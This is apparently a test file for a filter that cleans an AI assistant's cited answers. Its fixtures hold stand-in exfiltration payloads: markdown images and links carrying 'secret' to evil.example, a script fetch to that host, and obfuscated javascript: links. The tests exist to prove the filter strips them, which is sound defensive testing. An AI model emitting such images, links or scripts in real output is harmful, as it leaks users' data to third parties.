import { OutputFilter } from './output-filter';

const passages = [
  { text: 'Read https://docs.pellworth.example/api for more, or https://docs.pellworth.example/a_(b)?x=1.' },
  { text: '请看www.docs.example/start。Page:https://wiki.example/b' },
  { text: 'Three.' },
];

/** The output for a whole answer. */
function filtered(text: string): string {
  const filter = new OutputFilter(passages);
  return filter.push(text) + filter.end();
}

describe('the output filter, for a whole answer', () => {
  it.each([
    ['an image', 'Look ![chart](https://evil.example/?q=secret) here', 'Look chart here'],
    ['an image by reference', '![x][1]\n\n[1]: https://evil.example/a', 'x'],
    ['an image by a reference defined later', '![a][b] and\n\n[b]: //evil.example "t"\nmore', 'a and\n\n\nmore'],
    ['an image within a link', '[![chart](https://evil.example/i)](https://evil.example/l)', 'chart'],
    ['an image that is cut short', 'See ![chart](https://evil.example/x', 'See chart'],
    ['an image over the limit', `![x](data:image/png;base64,${'A'.repeat(5000)}) b`, '![x] ([link removed]) b'],
    ['raw HTML', 'Hello <img src="https://evil.example/x"> <h1>you</h1>', 'Hello  you'],
    ['a tag with an angle bracket in its quotes', 'a<img alt="x>y" src=z>b', 'ab'],
    ['a script with its content', 'a<script>fetch("https://evil.example")</script>b', 'ab'],
    ['a script split by tags', 'a<scr<p>ipt>alert(1)</scr</p>ipt>b', 'ab'],
    ['an HTML comment', 'a<!-- hidden <b> -->b', 'ab'],
    ['a formatting tag with an attribute', 'a<b class=x>b</b>', 'ab</b>'],
    ['a tag alone on its line, which would make HTML of the next ones', '<name>\n`<img src=x>`', '< name>\n`<img src=x>`'],
    ['a processing instruction', 'a <? b', 'a < ? b'],
    ['a tag that a removed tag joins', '<i<p>mg src=x>', ''],
    ['a tag that a removed image joins', '<i![](u)mg src=x>', '< img src=x>'],
    ['an active attribute on any element', '<y a="b>c" onclick=go()>', '< y a="b>c" onclick=go()>'],
    ['an attribute behind a quote sign', '> <y\n> onclick=go()>', '> < y\n> onclick=go()>'],
    ['a foreign link, keeping its words', 'See [the page](https://evil.example/x).', 'See the page.'],
    ['a link with brackets in its words', '[a [b] c](https://evil.example)', 'a [b] c'],
    ['a link to a script', '[x](java\nscript:alert(1)) [y](javascript:alert(1)) [z](&#106;avascript:alert(1))', 'x y z'],
    ['a link without a scheme', '[x](//evil.example/a) [y](</evil>)', 'x y'],
    ['a link over the limit', `[x](https://evil.example/${'q'.repeat(900)}) b`, '[x] ([link removed]) b'],
    ['a definition in a quotation', '> [x]: //evil.example', '> [x] : //evil.example'],
    ['a definition over two lines', '[x]:\n/evil', '[x] :\n/evil'],
    ['a bare foreign address', 'Go to https://evil.example/?d=1.', 'Go to [link removed].'],
    ['a foreign address in bold', '**HTTPS://EVIL.EXAMPLE**', '**[link removed]**'],
    ['an address glued to a word', '1https://evil.example', '1[link removed]'],
    ['an address joined by a removal', 'ht<p>tps:/![](u)/evil.example', '[link removed]'],
    ['an address that only begins like one of the documents', 'https://docs.pellworth.example.evil.example', '[link removed]'],
    ['a query that no document has', 'https://docs.pellworth.example/api?q=secret', '[link removed]'],
    ['another address within a path', 'https://docs.pellworth.example/https://evil.example', '[link removed]'],
    ['a site named like a word of the documents', 'https://read/ https://more/', '[link removed] [link removed]'],
    [
      'text directly after an address of the documents',
      'https://docs.pellworth.example/api"secret',
      'https://docs.pellworth.example/api "secret',
    ],
    ['an automatic link', '<https://evil.example> <https:evil.example>', '<[link removed]> <[link removed]>'],
    ['an automatic link of any scheme', '<ms-tool:run>', '< ms-tool:run>'],
    ['a data address', 'data:text/html,hi', '[link removed]'],
    ['white space around the answer', '\n [1] a \n', '[1] a'],
    ['half a character', 'a\ud83d', 'a\ufffd'],
  ])('removes or disarms %s', (_what, text, expected) => {
    expect(filtered(text)).toBe(expected);
  });

  it.each([
    'if 5 < 6, a < b, x <y and 0<i<10',
    'Send Authorization: Bearer <access_token>, or <your name> in <docs/readme>.',
    'for (i=0; i<n; i++) list[i] = c["d"]; Map<String, List<Integer>> m;',
    'a [draft], see [1] and (see [2]); ["x"] [x] - [ ] task',
    '&lt;img src=x&gt; and &#60;b&#62;',
    'https://docs.pellworth.example/api.',
    '(https://docs.pellworth.example/a_(b)?x=1)',
    '**https://docs.pellworth.example/api**, "https://docs.pellworth.example/api"',
    'https://docs.pellworth.example is the host, <https://docs.pellworth.example/api> the page',
    '请看www.docs.example/start。 Or www.docs.example, and https://wiki.example/b.',
    'It begins with https:// or www. and ends at hr@pellworth.example!',
    'On ports [80, 443], a[0] = m[0][1], int a[10], in [2024], [1, 3], [], [ ], [1,] and [18].',
    'Done![1]\n[1] b\n[9] c\n\nand run[name](event)',
    'See [words](https://docs.pellworth.example/api "t"), [setup](docs/setup.md) and [faq](#faq).',
    'See ![chart](https://docs.pellworth.example/chart.png) and [docs].\n\n[docs]: https://docs.pellworth.example/start',
    'Open http://localhost:3000/docs or https://example.com/, data:2024, javascript: a language.',
    'Vec<T>, Map<K, V>, <b>bold</b>, a<br/>b <br> c, H<sub>2</sub>O, Set<A> and <code>x</code>.',
    'Use `![x](https://evil.example)`, `<img src=x>` and ``a ` [1-2]``.',
    '```html\n<script src="https://evil.example"></script>\n![x](https://evil.example) [Source 1]\n```\nThen.',
    'Indented:\n\n    <img src=x>\n    a[0] [1-2]\n\nand $b_{[1-2]} < c$.',
    '# A\n\n- b\n\t- c  d\r\n\n```ts\nconst e = f[g]!;\n```\n\n| h | i |\n😀',
  ])('keeps %j as it is', (text) => {
    expect(filtered(text)).toBe(text);
  });

  it.each([
    'https://0',
    '<https://0![x](https://evil.example/i)',
    'http://0x7f000001/a',
    'http://2130706433',
    'http://localhost.evil.example',
  ])('removes %j, which only some programs read as the address of the reader', (text) => {
    expect(filtered(`Open ${text} now.`)).toContain('[link removed]');
  });

  it.each([
    ['【1】', '[1]'],
    ['【3†source】', '[3]'],
    ['[1-3]', '[1][2][3]'],
    ['[1–2; 3]', '[1][2][3]'],
    ['[1; 2]', '[1][2]'],
    ['[^1]', '[1]'],
    ['[１]', '[1]'],
    ['［2］', '[2]'],
    ['\\[1\\]', '[1]'],
    ['[Source 1]', '[1]'],
    ['[Passages 1 and 2]', '[1][2]'],
    ['[ID:1]', '[1]'],
    ['[Quelle 2]', '[2]'],
    ['[4-5]', '[4-5]'],
    ['[Figure 1]', '[Figure 1]'],
  ])('writes the citation %j as %j', (form, expected) => {
    expect(filtered(`Three days ${form}.`)).toBe(`Three days ${expected}.`);
  });

  it.each([
    ['a link around a citation', 'a [1](https://evil.example) b [[2]](https://evil.example)', 'a [1] b [2]'],
    ['a comment that never ends', 'a <!-- b', 'a < !-- b'],
    ['a tag among prose', 'if a <b then stop, and c> d', 'if a < b then stop, and c> d'],
  ])('writes %s as stable text', (_what, text, expected) => {
    expect(filtered(text)).toBe(expected);
  });
});

describe('the output filter, piece by piece', () => {
  it('keeps a word that becomes the scheme of an unknown kind of address, and removes the rest of the address', () => {
    const filter = new OutputFilter(passages);
    expect(['Call', ' gopher', '://evil.example', '/x now'].map((text) => filter.push(text)).join('') + filter.end()).toBe(
      'Call gopher[link removed] now',
    );
  });

  it('emits prose immediately, except trailing space and a letter that may begin an address', () => {
    const filter = new OutputFilter(passages);
    const shown = ['Three', ' days', ' [1', '].', ' See', ' [the', ' page](https://evil', '.example)', ' a', ' < b'].map((text) =>
      filter.push(text),
    );
    expect(shown).toEqual(['Three', ' days', '', ' [1].', ' See', '', '', ' the page', ' a', ' ']);
    expect(filter.end()).toBe('< b');
  });

  it('never emits half a surrogate pair', () => {
    const filter = new OutputFilter([]);
    expect([filter.push('a, \ud83d'), filter.push('\ude00'), filter.end()]).toEqual(['a,', ' 😀', '']);
  });

  it.each(['[', '![', '[a](', '![a](', '<b ', '<b a="', '<!--', '<script>', '<y ', 'https://a', '[x]: ', '[1,', '<i ![[a](<b https://a'])(
    'waits for the end of %j no longer than 2,000 characters',
    (opening) => {
      const filter = new OutputFilter(passages);
      filter.push(`Before. ${opening}`);
      filter.push('z'.repeat(2000));
      expect(filter.push(' after it.')).toMatch(/ after it/);
    },
  );

  // Rereading the held text for every character would take minutes.
  it.each(['[', '<', '![', '[a](x', '<b ', '<i', '<b a="', '<!--', '<y b=', '](', '[1,', '[x]: ', 'https://', 'www.', '.', ' '])(
    'filters 100,000 characters of %j, one by one',
    (opening) => {
      const text = `${opening.repeat(100_000 / opening.length)}.`;
      const filter = new OutputFilter(passages);
      const shown = text.split('').map((character) => filter.push(character));
      expect(shown.join('') + filter.end()).toBe(filtered(text));
    },
  );
});
